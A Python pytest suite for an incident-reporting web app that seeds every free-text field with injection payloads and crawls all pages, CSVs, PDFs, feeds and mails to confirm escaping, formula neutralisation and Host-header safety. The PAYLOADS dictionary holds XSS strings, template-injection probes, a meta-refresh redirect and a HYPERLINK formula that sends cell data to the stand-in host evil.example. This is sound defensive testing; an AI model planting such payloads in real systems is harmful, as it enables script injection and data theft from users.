"""Nothing a user typed is ever marked safe, and no link follows the request's Host header.

The sweep puts HTML, script and template payloads in every free-text field the models hold (a
test fails for a new text column nobody classified), then fetches every page each person can
reach: every GET route with the ids of real objects filled in, and every link those pages
offer. No payload comes back as markup, no template expression is evaluated; every CSV cell
that a spreadsheet would run as a formula is neutralised; the PDF is made from escaped HTML;
the calendar feed and every mail hold only links under BASE_URL.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import re
from collections import deque
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from flask import url_for
from icalendar import Calendar
from markupsafe import escape
from PIL import Image
from sqlalchemy import JSON, Enum, String, Text, cast, exists, func, select, update

from incidents import notify, services
from incidents.csvsafe import FORMULA_STARTS, csv_text, safe_cell
from incidents.extensions import db
from incidents.models import (
    AftercareStep,
    Attachment,
    Channel,
    CorrectiveAction,
    Incident,
    IncidentType,
    Location,
    Measure,
    Notification,
    OrgImport,
    PerpetratorKnown,
    Role,
    StepStatus,
    Team,
    User,
)
from incidents.services import ReportData, org_import, ownership, retention
from incidents.services import actions as action_service
from incidents.services import conversations as conversation_service
from incidents.services import learning as learning_service
from incidents.services import locations as location_service
from incidents.services import measures as measure_service
from incidents.services.aftercare import StepResult
from incidents.services.calendar import renew_calendar_token
from incidents.services.evidence import Upload
from tests.conftest import PASSWORD, ROOT, login
from tests.web.test_notify import smtp  # noqa: F401 - the SMTP server fixture

# Each payload carries a marker (for the check that every text column holds it) and the
# template expressions are wrapped in Q...Q: "Q49Q" anywhere means one was evaluated.
PAYLOADS = {
    "meta": "<meta http-equiv=refresh content=0;url=http://evil.example/>Q{{7*7}}Q",
    "script": '<script>alert(1)</script>"><img src=x onerror=alert(1)>Q${7*7}Q',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
}
MARKERS = {"meta": "evil.example", "script": "alert(1)", "formula": "HYPERLINK"}
RAW = re.compile(r"<meta http-equiv|<script>alert|<img src=x|Q49Q", re.IGNORECASE)

NOW = datetime(2026, 2, 10, 9, 0, tzinfo=UTC)  # 2025 is published
BEFORE = datetime(2024, 12, 1, tzinfo=UTC)  # when the organisation was set up
BASE_URL = "https://nazorg.example.org/app"

# Every text column is here or in FREE_TEXT: a new one fails until it is classified (and,
# when free text, put in the world below).
NOT_FREE_TEXT = {
    "user.email",  # a valid address (checked)
    "user.password_hash",
    "user.locale",
    "user.calendar_token",
    "user.session_token",
    "audit_event.action",
    "audit_event.object_type",
    "audit_event.address",
    "incident.submission_token",
    "incident.level_rule",
    "incident.level_reason",  # the protocol's words
    "incident.protocol_version",
    "incident.number",  # given by the app at submission (services.numbers)
    "incident_change.action",
    "incident_change.fields",
    "aftercare_step.definition_id",
    "aftercare_step.kind",
    "aftercare_step.subject",
    "aftercare_step.outcomes",
    "aftercare_step.attempt_times",  # moments written by the app
    "aftercare_step.not_required_reason",  # the protocol's words
    "notification.key",
    "notification.kind",
    "notification.claim",
    "user_session.token_hash",
    "user_session.address",
    "password_reset.token_hash",
    "user.totp_secret",  # base32 from pyotp, never typed
    "recovery_code.code_hash",
    "scim_token.token_hash",  # a sha256 in hex, made by the app
    "login_throttle.key",
    "setting.name",
    "org_import.digest",  # a sha256 in hex, made by the app
    "setting.value",
    "retention_run.report",
    "stat_tally.measure",
    "stat_tally.month",
    "stat_tally.key",
    "stat_published.measure",
    "stat_published.month",
    "stat_published.key",
    "stat_publication.month",
    "location.code",  # made by the app from a fixed alphabet
    "location.name_key",  # the name folded, only compared, never shown
    "attachment.key",  # storage keys made by the app
    "attachment.original_key",
    "attachment.kind",  # decided from the content
    "attachment.content_type",
    "attachment.sha256",
    "measure.kind",  # a [[measures]] id from the protocol
    "measure.state",
    "measure.name_key",  # the name and reference folded, only compared, never shown
    "measure.reference_key",
    "measure.heard_how",  # chosen from a fixed list
    "measure.notice_sent_how",
    "corrective_action.state",
    "corrective_action.review_result",  # chosen from a fixed list
    "org_measure.channels",  # chosen from the channels
}
FREE_TEXT = {
    # The alarm provider's event: its id, place and device are text from outside.
    "alarm_event.provider_event_id",
    "alarm_event.location",
    "alarm_event.device",
    "user.name",
    "team.name_nl",
    "team.name_en",
    "incident.location",
    "incident.description",
    "incident.outside_witnesses",
    "incident.perpetrator_name",
    "incident.perpetrator_reference",
    "aftercare_step.note",
    "aftercare_step.reference",
    "aftercare_step.reason",
    "aftercare_step.police_outcome",
    "audit_event.details",  # what HR asked for, a legal hold's reason
    "notification.last_error",  # what a mail server answered
    "user_session.user_agent",  # what the client sent
    "org_import.filename",  # the HR import: the name of the uploaded file
    "org_import.report",  # ... names, team names and refused lines from it
    "user.employee_number",  # ... and the HR system's keys
    "team.external_id",
    "user.external_id",  # the directory's id for the account (SCIM externalId)
    "user.oidc_subject",  # the OpenID provider's subject, never shown
    "scim_token.name",  # what the admin called the token
    "location.name",  # what the admin called a counter or a room (the poster's title)
    "attachment.filename",  # the name of an uploaded file
    "attachment.removed_reason",  # why someone removed it
    "step_correction.reason",  # why a step was corrected
    "step_correction.previous",  # ... what it held before (a note, a reference)
    "step_correction.corrected",  # ... and what the correction set
    # A measure against a perpetrator: the citizen and every reason a manager typed.
    "measure.citizen_name",
    "measure.citizen_reference",
    "measure.reason",
    "measure.not_heard_reason",
    "measure.close_reason",
    "corrective_action.what",
    "corrective_action.risk_item",
    "corrective_action.done_note",
    "corrective_action.review_note",
    "corrective_action.cancel_reason",
    "org_measure.title",
    "org_measure.description",
    "org_measure.end_reason",
}

# The outcome recorded for each kind of step, with every optional field filled in.
OUTCOME = {
    "contact": ["held"],
    "aftercare_conversation": ["not_reached"],
    "follow_up_conversation": ["held"],
    "closing_conversation": ["held"],
    "referral_decision": ["victim_support"],
    "police_report": ["filed_by_employer"],
    "perpetrator_response": ["building_ban"],
    "labour_inspectorate": ["reported"],
    "team_evaluation": ["held"],
}


def text_columns():
    for table in db.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, String | Text | JSON) and not isinstance(column.type, Enum):
                yield f"{table.name}.{column.name}", table, column


@pytest.fixture
def base_url(app, monkeypatch):
    """An address of its own for the links, unlike the test client's host."""
    monkeypatch.setitem(app.config, "BASE_URL", BASE_URL)
    return BASE_URL


def test_every_text_column_is_classified(app):
    names = {name for name, _table, _column in text_columns()}
    unclassified = names - NOT_FREE_TEXT - FREE_TEXT
    assert not unclassified, f"free text or not? add to test_injection.py: {sorted(unclassified)}"


def report(user, token, payload, **facts):
    data = ReportData(
        occurred_at=facts.pop("occurred_at", datetime(2025, 6, 3, 10, tzinfo=UTC)),
        channel=Channel.COUNTER,
        types=facts.pop("types", [IncidentType.PHYSICAL]),
        location=payload,
        description=payload,
        outside_witnesses=payload,
        perpetrator_known=PerpetratorKnown.KNOWN,
        perpetrator_name=payload,
        perpetrator_reference=payload,
        **facts,
    )
    return services.save_report(user, token, data, submit=True)


def complete_open_steps(incident, payload, day):
    for step in list(incident.steps):
        if step.status != StepStatus.OPEN:
            continue
        result = StepResult(
            outcomes=OUTCOME[step.kind],
            note=payload,
            held_on=day,
            reference=payload,
            end_date=day + timedelta(days=90),
            citizen_heard=True,
            reason=payload,
        )
        services.aftercare.complete_step(step.owner, step, result, step.attempts)
        if step.kind == "police_report":
            services.aftercare.record_police_outcome(step.owner, step, payload)


@pytest.fixture(params=list(PAYLOADS))
def payload(request):
    return request.param


@pytest.fixture
def world(app, payload):
    """An organisation whose every free text holds the payload; the people, by name."""
    text = PAYLOADS[payload]
    counter = itertools.count(1)

    def name() -> str:
        return f"{text} {next(counter)}"

    def person(role=Role.EMPLOYEE, team=None, locale=None):
        n = next(counter)
        return services.create_user(
            None,
            email=f"person{n}@example.test",
            name=f"{text} {n}",
            password=PASSWORD,
            role=role,
            team=team,
            locale=locale,
        )

    with time_machine.travel(BEFORE, tick=False):
        boss, deputy, other_boss = (
            person(Role.MANAGER, locale="en"),
            person(Role.MANAGER),
            person(Role.MANAGER),
        )
        department = services.create_team(None, name_nl=name(), name_en=name(), manager=boss)
        income = services.create_team(
            None, name_nl=name(), name_en=name(), parent=department, manager=boss, deputy=deputy
        )
        enforcement = services.create_team(
            None, name_nl=name(), name_en=name(), parent=department, manager=other_boss
        )
        people = {
            "reporter": person(team=income, locale="en"),
            "victim": person(team=income),
            "witness": person(team=enforcement),
            "boss": boss,
            "deputy": deputy,
            "other_boss": other_boss,
            "hr": person(Role.HR),
            "admin": person(Role.ADMIN, locale="en"),
        }
        for _ in range(5):  # teams large enough to be shown on their own in the statistics
            person(team=income)
            person(team=enforcement)
    with time_machine.travel(datetime(2025, 6, 3, 11, tzinfo=UTC), tick=False):
        done = report(
            people["reporter"],
            f"sweep-done-{payload}-0000001",
            text,
            affected_ids=[people["reporter"].id, people["victim"].id],
            witness_ids=[people["witness"].id],
            hospital=True,
            police_report_wanted=True,
        )
        complete_open_steps(done, text, date(2025, 6, 3))
        # A correction keeps the earlier note and its own reason: both free text.
        contact = next(s for s in done.steps if s.kind == "contact" and s.status == "done")
        services.corrections.correct_step(
            contact.owner,
            contact,
            StepResult(outcomes=["held"], held_on=date(2025, 6, 3), note=f"{text} corrected"),
            text,
            contact.revision,
        )
        services.quick_log(
            people["victim"],
            f"sweep-quick-{payload}-00001",
            IncidentType.VERBAL,
            Channel.PHONE,
            text,
        )
    with time_machine.travel(NOW - timedelta(days=2), tick=False):
        open_one = report(
            people["victim"],
            f"sweep-open-{payload}-0000001",
            text,
            occurred_at=NOW - timedelta(days=2, hours=1),
            affected_ids=[people["victim"].id],
            witness_ids=[people["reporter"].id],
            weapon=True,
        )
    with time_machine.travel(NOW, tick=False):
        services.save_report(
            people["reporter"],
            f"sweep-draft-{payload}-000001",
            ReportData(
                description=text,
                location=text,
                perpetrator_known=PerpetratorKnown.KNOWN,
                perpetrator_name=text,
            ),
            submit=False,
        )
        admin, hr = people["admin"], people["hr"]
        retention.set_legal_hold(admin, done, True, text)
        # Files: one named with the payload (set as stored, past the name check: the worst
        # case for the pages), one removed with the payload as the reason.
        png = io.BytesIO()
        Image.new("RGB", (4, 4)).save(png, format="PNG")
        shown, removed = services.evidence.add_files(
            people["reporter"],
            done,
            [Upload("a.png", png.getvalue()), Upload("b.png", png.getvalue())],
        )
        services.evidence.remove_file(people["reporter"], removed, text[:200])
        with services.transaction():
            shown.filename = text[:160]
        # A location whose poster's title is the payload, and one archived.
        location_service.create_location(admin, name=text, channel=Channel.COUNTER)
        location_service.set_location_archived(
            admin,
            location_service.create_location(admin, name=name(), channel=Channel.PHONE),
            True,
        )
        ownership.set_coordinator(admin, people["deputy"])

        # Measures whose citizen and reasons are the payload: one in force, one proposal
        # whose citizen could not be heard, one withdrawn.
        def proposal(kind: str) -> measure_service.Proposal:
            return measure_service.Proposal(
                kind=kind,
                citizen_name=text[:200],
                citizen_reference=text[:100],
                reason=text[:300],
                starts_on=NOW.date(),
                ends_on=NOW.date() + timedelta(days=60),
                incident_numbers=[open_one.number or ""],
            )

        held = measure_service.propose(boss, proposal("two_colleagues"))
        measure_service.approve(deputy, held.id, held.revision)
        unheard = measure_service.propose(boss, proposal("building_ban"))
        measure_service.record_hearing(
            boss, unheard.id, 0, heard_on=None, how="", not_heard_reason=text[:300]
        )
        withdrawn = measure_service.propose(boss, proposal("warning_letter"))
        measure_service.close(boss, withdrawn.id, 0, text[:300])
        # Corrective actions of the team evaluation: every text the payload; one open (its
        # owner an employee, so "My actions" shows it), one reviewed, one cancelled.
        evaluation = next(s for s in done.steps if s.kind == "team_evaluation")

        def agreed(owner: User) -> CorrectiveAction:
            return action_service.create(
                boss,
                evaluation.id,
                action_service.ActionInput(
                    text[:300], owner.id, NOW.date() + timedelta(days=7), text[:100]
                ),
            )

        agreed(people["victim"])
        reviewed = agreed(boss)
        action_service.close(boss, reviewed.id, 0, done_on=NOW.date(), note=text[:300])
        with services.transaction():  # its review date brought forward: reviewed today
            db.session.get_one(CorrectiveAction, reviewed.id).review_due_on = NOW.date()
        action_service.review(boss, reviewed.id, 1, result="partly", note=text[:300])
        cancelled = agreed(boss)
        action_service.cancel(boss, cancelled.id, 0, reason=text[:300])
        # Organisational measures: every text the payload; one in place, one ended.
        for taken_on in (date(2025, 4, 1), date(2025, 7, 1)):
            org_measure = learning_service.record(
                hr,
                learning_service.MeasureInput(
                    title=text[:120],
                    taken_on=taken_on,
                    description=text,
                    teams=[income.id],
                    channels=[Channel.COUNTER.value],
                ),
            )
        learning_service.end(hr, org_measure.id, 0, date(2025, 12, 31), text[:200])
        renew_calendar_token(people["boss"])
        conversation_service.set_counts(
            hr,
            date(2025, 6, 1),
            {(income.id, Channel.COUNTER): 1200, (enforcement.id, Channel.PHONE): 300},
        )
        # An HR import whose file carries the payload everywhere (the person's employee number
        # and name, the team's code and name, a refused line, the file's name), applied; then a
        # dry run that would deactivate that person again, waiting for its confirmation.
        export = io.StringIO()
        writer = csv.writer(export)
        writer.writerow(org_import.FIELDS)
        writer.writerow([text[:64], "imported@example.test", text, text, text, "", text[:64]])
        writer.writerow(["9002", "not-an-address", text, text, "", "", ""])
        org_import.import_file(admin, export.getvalue(), f"{text}.csv", write=True)
        header = export.getvalue().splitlines()[0]
        org_import.dry_run(admin, header + "\n9003,x,y,z,,,\n", text, keep=False)
        # What the directory and the OpenID provider send (ids the admin pages may show).
        with services.transaction():
            people["reporter"].external_id = text[:255]
            people["reporter"].oidc_subject = text[:255]
        # A mail server's answer is shown to the admin: it is text from outside too.
        db.session.execute(
            update(Notification)
            .where(Notification.id == db.session.scalar(select(func.min(Notification.id))))
            .values(failed_at=NOW, last_error=text[:300])
        )
        db.session.commit()
        # A login through the form keeps the browser's User-Agent, which the client chose.
        browser = app.test_client()
        browser.post(
            "/login",
            data={"email": people["reporter"].email, "password": PASSWORD},
            headers={"User-Agent": text},
        )
        # What HR asks for is in the audit trail, as asked.
        client = login(app.test_client(), hr)
        client.get("/hr/statistics", query_string={"period": text, "by": text})
    return people


def test_the_world_holds_the_payload_in_every_free_text_column(app, world, payload):
    marker = MARKERS[payload]
    empty = []
    for name, table, column in text_columns():
        if name not in FREE_TEXT or not db.session.scalar(select(exists().select_from(table))):
            continue  # a table without rows shows nothing
        held = db.session.scalar(select(exists().where(cast(column, Text).contains(marker))))
        if not held:
            empty.append(name)
    assert not empty, f"the sweep world puts no payload in {empty}"


def ids(app):
    """The ids to fill in each kind of route argument: every object of its kind."""
    everything = {
        "incident_id": Incident.id,
        "step_id": AftercareStep.id,
        "user_id": User.id,
        "team_id": Team.id,
        "notification_id": Notification.id,
        "run_id": OrgImport.id,
        "location_id": Location.id,
        "attachment_id": Attachment.id,
        "measure_id": Measure.id,
        "action_id": CorrectiveAction.id,
    }
    found: dict[str, list[int | str]] = {
        arg: list(db.session.scalars(select(column))) for arg, column in everything.items()
    }
    found["token"] = [t for t in db.session.scalars(select(User.calendar_token)) if t]
    found["secret"] = ["no-such-secret"]
    found["filename"] = ["css/app.css"]
    # The SCIM endpoint's own ids (it answers a browser with 401: no bearer token).
    found["schema_id"] = ["urn:ietf:params:scim:schemas:core:2.0:User"]
    found["resource_type_id"] = ["User"]
    found["path"] = ["Unknown"]
    return found


def start_urls(app):
    """Every GET route, with every real id filled in."""
    values = ids(app)
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        arguments = sorted(rule.arguments)
        for combination in itertools.product(*(values[a] for a in arguments)):
            with app.test_request_context():
                urls.append(
                    url_for(rule.endpoint, **dict(zip(arguments, combination, strict=True)))
                )
    # Pages behind a query string that no link of the pages offers on the way.
    # The quick log as a location's poster opens it (the redirect that adds the token is not
    # followed by the crawl).
    posters = [
        f"/incidents/quick?t=sweep-poster-token-0001&at={code}"
        for code in db.session.scalars(select(Location.code))
    ]
    return [
        *urls,
        *posters,
        "/hr/statistics?period=2025&by=team",
        "/hr/report?year=2025",
        "/hr/report.pdf?year=2025",
    ]


LINK = re.compile(r'href="(/[^"]*)"')
FORM_TOKEN = re.compile(r"([?&]t=)[\w-]+")


def links(page: str) -> list[str]:
    found = []
    for raw in LINK.findall(page):
        url = html.unescape(raw).split("#")[0]
        # A link to a report form carries a fresh submission token each time it is drawn:
        # one token for all of them, or the crawl would never end.
        url = FORM_TOKEN.sub(r"\1sweep-link-token-0001", url)
        if url.startswith("//") or url.startswith("/static/") or url == "/logout":
            continue
        found.append(url)
    return found


def check_csv(url, text):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (url, cell)


def check_feed(url, body):
    calendar = Calendar.from_ical(body)
    assert not RAW.search(body.decode()), url
    for event in calendar.walk("VEVENT"):
        assert str(event["URL"]).startswith(BASE_URL + "/"), (url, event["URL"])


CRAWL_LIMIT = 2000


def sweep(client, app):
    """Every reachable page once: the GET routes and every link the pages offer."""
    queue = deque(start_urls(app))
    visited: set[str] = set()
    while queue:
        assert len(visited) < CRAWL_LIMIT, "the crawl does not end"
        url = queue.popleft()
        if url in visited:
            continue
        visited.add(url)
        response = client.get(url, headers={"User-Agent": "sweep"})
        assert response.status_code < 500, (url, response.status_code)
        kind = response.mimetype
        if kind == "text/html":
            page = response.get_data(as_text=True)
            # Fresh submission tokens are random: one may spell "q49q" by chance.
            match = RAW.search(FORM_TOKEN.sub(r"\1token", page))
            assert match is None, (url, page[max(match.start() - 200, 0) : match.end() + 100])
            queue.extend(u for u in links(page) if u not in visited)
        elif kind == "text/csv":
            check_csv(url, response.get_data(as_text=True))
        elif kind == "application/json":
            json.loads(response.get_data(as_text=True))
        elif kind == "text/calendar":
            check_feed(url, response.data)
        elif kind == "application/pdf":
            assert not RAW.search(response.data.decode("latin-1")), url
        elif kind == "image/svg+xml":
            assert not RAW.search(response.get_data(as_text=True)), url
        response.close()
    return visited


# On PostgreSQL with one payload: the escaping is the templates', the same on both databases,
# and a page whose query fails there fails with any payload (it took 100 s of CI's 20 min).
@pytest.mark.postgresql_with(payload=["script"])
def test_no_page_csv_pdf_or_feed_renders_a_payload(app, world, payload, base_url, monkeypatch):
    import weasyprint

    rendered: list[str] = []
    real_html = weasyprint.HTML

    def html_of_pdf(*args, **kwargs):
        rendered.append(kwargs.get("string", ""))
        return real_html(*args, **kwargs)

    monkeypatch.setattr(weasyprint, "HTML", html_of_pdf)
    everything: set[str] = set()
    with time_machine.travel(NOW, tick=False):
        for who, user in world.items():
            visited = sweep(login(app.test_client(), user), app)
            assert len(visited) > 10, who
            everything |= visited
        anonymous = sweep(app.test_client(), app)
    assert "/login" in anonymous
    for kind in ("/hr/statistics.csv?", "/hr/report.pdf", "/account/data.json", ".ics"):
        assert any(kind in url for url in everything | anonymous), kind
    assert rendered, "the PDF report was fetched"
    for page in rendered:
        assert not RAW.search(page)


def test_a_lazy_translation_escapes_its_parameters_only_as_html(app):
    from flask import render_template_string
    from wtforms.widgets import html_params

    from incidents.i18n import lazy_gettext as _l

    with app.test_request_context():
        label = _l("Level %(level)s", level='<b a="1">&')
        assert str(label) == 'Niveau <b a="1">&'  # text: for CSV, JSON, mail subjects
        assert str(escape(label)) == "Niveau &lt;b a=&#34;1&#34;&gt;&amp;"
        assert render_template_string("{{ x }}", x=label) == str(escape(label))
        assert html_params(title=label) == 'title="Niveau &lt;b a=&#34;1&#34;&gt;&amp;"'
        assert str(escape(_l("Location"))) == "Plaats"


def test_names_in_translated_labels_are_escaped(app, world, payload):
    """As observed: a reporter's name in "%(name)s (who reported it) was affected" on the edit
    page, and team names in the labels of the client-conversations grid, came out as markup."""
    with time_machine.travel(NOW, tick=False):
        victim = login(app.test_client(), world["victim"])
        reported = db.session.scalar(
            select(func.min(Incident.id)).where(Incident.reporter_id == world["reporter"].id)
        )
        edit = victim.get(f"/incidents/{reported}/edit").text
        hr = login(app.test_client(), world["hr"])
        grid = hr.get("/hr/conversations?month=2025-06").text
    label = re.search(r'<label for="affected_self">([^<]*)</label>', edit)
    assert label, "the label names the reporter"
    assert label[1] == f"{escape(world['reporter'].name)} (de melder) is getroffen"
    teams = db.session.scalars(select(Team).where(Team.active)).all()
    labels = re.findall(r'<label class="visually-hidden" for="count-\d+-\w+">([^<]*)</label>', grid)
    assert len(labels) == len(teams) * len(Channel)
    for team in teams:
        assert any(f"Klantgesprekken van {escape(team.name_nl)}, " in lab for lab in labels)
    assert not RAW.search(edit) and not RAW.search(grid)


def test_the_statistics_csv_neutralises_formulas(app, world, payload):
    with time_machine.travel(NOW, tick=False):
        hr = login(app.test_client(), world["hr"])
        response = hr.get("/hr/statistics.csv?period=2025&by=team&table=cross")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.text)))
    teams = [row[0] for row in rows[1:] if MARKERS[payload] in row[0]]
    assert teams, rows  # the teams are there, by name
    if payload == "formula":
        assert all(team.startswith("'=HYPERLINK(") for team in teams), teams
    check_csv("statistics", response.text)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2", "'-2"),  # the app writes no negative numbers: none is turned into text
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Income", "Income"),
        ("<5", "<5"),
        (">=10", ">=10"),
        (12, "12"),
        (None, ""),
    ],
)
def test_a_csv_cell_never_starts_a_formula(value, written):
    assert safe_cell(value) == written
    assert next(csv.reader(io.StringIO(csv_text([[value, "x"]])))) == [written, "x"]


def test_every_csv_is_written_through_the_one_safe_helper():
    for path in (ROOT / "incidents").rglob("*.py"):
        if path.name != "csvsafe.py":
            source = path.read_text()
            assert "csv.writer" not in source and "DictWriter" not in source, path


def test_mails_hold_no_payload_and_only_links_under_base_url(
    app,
    world,
    base_url,
    smtp,  # noqa: F811
):
    with time_machine.travel(NOW, tick=False):
        notify.run(NOW)
    assert len(smtp.messages) > 5
    for message in smtp.messages:
        plain, page = smtp.texts(message)
        assert not RAW.search(plain + page + str(message["Subject"])), message["Subject"]
        for link in re.findall(r"https?://[^\s\"<>]+", plain + page):
            assert link.startswith(BASE_URL + "/"), link


# Host header: a client chooses it; no link that leaves the browser may follow it.


def elsewhere(client, app):
    """`client`, logged in, sending `Host: evil.example`: its cookie goes there too."""
    name = app.config["SESSION_COOKIE_NAME"]
    client.csrf_token()  # into the session first, so the copied cookie holds it
    client.set_cookie(name, client.get_cookie(name).value, domain="evil.example")
    return client


@pytest.fixture
def team_with_boss(app, make_user, make_team):
    boss = make_user(Role.MANAGER, email="boss@example.test")
    team = make_team("Income", manager=boss)
    return boss, make_user(team=team, email="eva@example.test")


def test_mails_queued_by_a_request_with_another_host_link_to_base_url(
    app,
    team_with_boss,
    base_url,
    smtp,  # noqa: F811
):
    _boss, employee = team_with_boss
    client = elsewhere(login(app.test_client(), employee), app)
    response = client.post(
        "/incidents/new",
        headers={"Host": "evil.example"},
        data={
            "occurred_at": (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
            "channel": "counter",
            "types": "physical",
            "description": "He hit me.",
            "affected_self": "y",
            "perpetrator_known": "unknown",
            "submission_token": "host-header-token-0000001",
            "submit": "1",
        },
    )
    assert response.status_code == 302
    notify.run()
    assert smtp.to("boss@example.test")
    for message in smtp.messages:
        plain, page = smtp.texts(message)
        assert "evil.example" not in plain + page + str(message)
        assert f"{BASE_URL}/" in plain


def test_the_feed_fetched_with_another_host_links_to_base_url(app, team_with_boss, base_url):
    boss, employee = team_with_boss
    report(employee, "host-feed-token-000000001", "x", affected_ids=[employee.id])
    token = renew_calendar_token(boss)
    feed = app.test_client().get(
        f"/aftercare/calendar/{token}.ics", headers={"Host": "evil.example"}
    )
    boss_client = elsewhere(login(app.test_client(), boss), app)
    inbox = boss_client.get("/aftercare", headers={"Host": "evil.example"})
    assert feed.status_code == 200 and b"evil.example" not in feed.data
    events = Calendar.from_ical(feed.data).walk("VEVENT")
    assert events
    for event in events:
        assert str(event["URL"]).startswith(f"{BASE_URL}/aftercare/steps/")
        assert str(event["UID"]).endswith("@nazorg.example.org")
    assert f'value="{BASE_URL}/aftercare/calendar/{token}.ics"' in inbox.text
